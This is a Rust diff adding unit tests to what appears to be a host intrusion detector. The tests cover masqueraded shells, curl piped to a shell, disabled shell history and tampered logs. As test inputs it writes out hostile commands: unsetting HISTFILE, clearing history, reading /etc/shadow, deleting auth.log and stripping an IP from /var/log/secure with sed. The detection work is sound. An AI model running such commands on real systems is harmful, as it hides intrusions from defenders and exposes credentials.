+        assert_eq!(rules(&exec_mem(&mut w, 1800, 0)), [ids::EXEC_MEMORY]);
+        w.exec(1801, 1, "/usr/bin/bash", &["bash"]);
+        assert_eq!(rules(&exec_mem(&mut w, 1801, 0)), [ids::EXEC_MEMORY]);
+        w.exec(1802, 1, "/srv/app/.cache/worker", &["worker"]);
+        let f = exec_mem(&mut w, 1802, 0);
+        assert_eq!(rules(&f), [ids::EXEC_MEMORY], "{f:?}");
+        assert!(f[0].summary.contains("hidden"), "{f:?}");
+        // Near misses: runtimes that compile (node, java, ruby with its
+        // JIT on), an ordinary program, a refused call.
+        for (pid, exe, argv) in [
+            (1803, "/usr/bin/node", vec!["node", "server.js"]),
+            (
+                1804,
+                "/usr/lib/jvm/java-17/bin/java",
+                vec!["java", "-jar", "a.jar"],
+            ),
+            (1805, "/usr/bin/ruby3.2", vec!["ruby", "--yjit", "app.rb"]),
+            (1806, "/opt/app/bin/server", vec!["server"]),
+        ] {
+            w.exec(pid, 1, exe, &argv);
+            assert!(exec_mem(&mut w, pid, 0).is_empty(), "{exe}");
+        }
+        assert!(exec_mem(&mut w, 1800, -13).is_empty());
+    }
+
+    #[test]
+    fn a_copied_shell_is_a_shell_whatever_its_name() {
+        let mut w = World::new();
+        w.exec(1900, 1, "/usr/bin/python3", &["gunicorn", "app:app"]);
+        w.listen(1900);
+        let f = w.exec_full(
+            1901,
+            1900,
+            "/srv/shop/.cache/kthelper",
+            &["kthelper"],
+            |x| x.copy_of = Some("/usr/bin/dash".into()),
+        );
+        let r = rules(&f);
+        assert!(r.contains(&ids::SERVER_CHILD), "{f:?}");
+        let m = f
+            .iter()
+            .find(|f| f.rule == ids::MASQUERADE)
+            .expect("masquerading");
+        assert_eq!(m.mitre, ["T1036.003"]);
+        // A copy reading a downloader's pipe is a shell reading it.
+        w.exec_full(
+            1902,
+            1,
+            "/usr/bin/curl",
+            &["curl", "-s", "http://x/i"],
+            |x| piped(x, 1, 4242),
+        );
+        let f = w.exec_full(1903, 1, "/home/u/bin/x", &["x"], |x| {
+            piped(x, 0, 4242);
+            x.copy_of = Some("/usr/bin/bash".into())
+        });
+        assert!(rules(&f).contains(&ids::PIPE_TO_SHELL), "{f:?}");
+        // Near misses: a copy under its own name (an unpacked toolchain's
+        // bash) is no rename; a program that is no copy is judged by name.
+        let f = w.exec_full(
+            1904,
+            1,
+            "/opt/tools/bin/bash",
+            &["bash", "-c", "make"],
+            |x| x.copy_of = Some("/usr/bin/bash".into()),
+        );
+        assert!(f.is_empty(), "{f:?}");
+        let f = w.exec(1905, 1900, "/srv/shop/bin/worker", &["worker"]);
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
+    fn shell_history_switched_off_once_per_session() {
+        let mut w = World::new();
+        w.exec(2000, 1, "/usr/sbin/sshd", &["sshd"]);
+        w.exec(2001, 2000, "/usr/bin/bash", &["-bash"]);
+        // Statements read by structure, quoted or not.
+        for (pid, cmd) in [
+            (2002, "unset HISTFILE; curl -s x"),
+            (2003, "export HISTFILE=/dev/null && id"),
+            (2004, "HISTSIZE=0; uname -a"),
+            (2005, "set +o history; cat /etc/shadow"),
+            (2006, "id; history -c"),
+        ] {
+            let f = w.exec(pid, 2001, "/usr/bin/bash", &["bash", "-c", cmd]);
+            assert_eq!(rules(&f), [ids::HISTORY_OFF], "{cmd}: {f:?}");
+            assert!(f[0].mitre.contains(&"T1562.003".to_string()));
+        }
+        // The environment: reported at the first process, not its siblings
+        // nor its descendants.
+        let f = w.exec_full(2010, 2001, "/usr/bin/ls", &["ls"], |x| x.history_off = true);
+        assert_eq!(rules(&f), [ids::HISTORY_OFF], "{f:?}");
+        let f = w.exec_full(2011, 2001, "/usr/bin/cat", &["cat", "x"], |x| {
+            x.history_off = true
+        });
+        assert!(f.is_empty(), "{f:?}");
+        // Near misses: a variable that is only a command's environment, a
+        // history file elsewhere, the words inside an argument, a
+        // non-shell's arguments.
+        for cmd in [
+            "HISTFILE=/dev/null printenv HISTFILE",
+            "export HISTFILE=$HOME/.hist_app",
+            "echo 'unset HISTFILE'",
+            "grep -r HISTSIZE=0 /etc",
+        ] {
+            let f = w.exec(2020, 2000, "/usr/bin/bash", &["bash", "-c", cmd]);
+            assert!(f.is_empty(), "{cmd}: {f:?}");
+        }
+        let f = w.exec(
+            2021,
+            2000,
+            "/usr/bin/python3",
+            &["python3", "-c", "unset HISTFILE"],
+        );
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
+    fn logs_deleted_or_rewritten_by_non_keepers_are_indicator_removal() {
+        let mut w = World::new();
+        w.exec(2100, 1, "/usr/bin/rm", &["rm", "-f", "/var/log/auth.log"]);
+        let unlink = |w: &mut World, pid: u32, path: &str| {
+            let ev = w.event(
+                pid,
+                Payload::Unlink(crate::model::event::Unlink { path: path.into() }),
+            );
+            w.run(ev)
+        };
+        let f = unlink(&mut w, 2100, "/var/log/auth.log");
+        assert_eq!(rules(&f), [ids::LOG_TAMPERING], "{f:?}");
+        assert!(f[0].mitre.contains(&"T1070.002".to_string()));
+        let f = unlink(&mut w, 2100, "/home/ops/.zsh_history");
+        assert!(f[0].mitre.contains(&"T1070.003".to_string()), "{f:?}");
+        // sed -i writes a copy and renames it over the log.
+        w.exec(
+            2101,
+            1,
+            "/usr/bin/sed",
+            &["sed", "-i", "/10.0.0.9/d", "/var/log/secure"],
+        );
+        let ev = w.event(
+            2101,
+            Payload::Rename(crate::model::event::Rename {
+                old_path: "/var/log/sedX1b2c3".into(),
+                new_path: "/var/log/secure".into(),
+            }),
+        );
+        let f = w.run(ev);
+        assert_eq!(rules(&f), [ids::LOG_TAMPERING], "{f:?}");
+        assert!(f[0].summary.contains("rewrote"), "{f:?}");
+        // Near misses: the rotator's own deletes, a file that only has a
+        // history-like word, a cache file.
+        w.exec(
+            2102,
+            1,
+            "/usr/sbin/logrotate",
+            &["logrotate", "/etc/logrotate.conf"],
+        );
+        assert!(unlink(&mut w, 2102, "/var/log/syslog.7.gz").is_empty());
+        assert!(unlink(&mut w, 2100, "/srv/app/history/export.csv").is_empty());
+        assert!(unlink(&mut w, 2100, "/srv/app/cache/hist.bin").is_empty());
     }
 }
